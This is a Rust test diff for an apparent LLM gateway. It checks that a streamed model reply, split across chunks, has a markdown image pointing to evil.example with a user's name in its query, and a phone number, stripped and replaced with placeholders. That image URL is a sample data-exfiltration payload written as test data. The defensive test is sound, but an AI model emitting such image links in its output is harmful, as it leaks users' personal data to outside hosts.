@@ -353,3 +353,33 @@ async fn a_stream_of_a_model_that_breaks_off_never_ends_well() {
     assert_eq!(records[1]["reason"], "answer_blocked");
     assert_eq!(stopped_at(&records[1]), ("screen".into(), "fault".into()));
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_model_smuggles_out_is_taken_out_of_its_stream() {
+    let gate = start().await;
+    let token = gate.issuer.token("alice");
+    let talk = r#"{"model":"m","stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
+    let chat = post("/v1/chat/completions", &token, "application/json", talk);
+    let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
+    let event = |text: &str| {
+        let choice = format!("{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}");
+        let event = format!("data: {{\"object\":\"chat.completion.chunk\",\"choices\":[{choice}]}}\n\n");
+        format!("{:x}\r\n{event}\r\n", event.len())
+    };
+    let parts = [
+        "see ![x](https://ev",
+        "il.example/p.png?d=the+user",
+        "+is+Ann+Lee) and call 06 12 ",
+        "34 56 78 or so",
+    ];
+    let mut stream = head.to_owned();
+    parts.iter().for_each(|part| stream.push_str(&event(part)));
+    stream.push_str("e\r\ndata: [DONE]\n\n\r\n0\r\n\r\n");
+    gate.upstream.plays(vec![Piece::Bytes(stream.into_bytes()), Piece::Close]);
+    let answer = gate.ask(&chat).await;
+    assert_eq!((answer.status, answer.is_whole), (200, true), "{answer:?}");
+    let text = answer.text();
+    assert!(!text.contains("evil.example") && !text.contains("Ann+Lee") && !text.contains("34 56"), "{text}");
+    assert!(text.contains("[image]") && text.contains("[phone]"), "{text}");
+    gate.stop().await;
+}
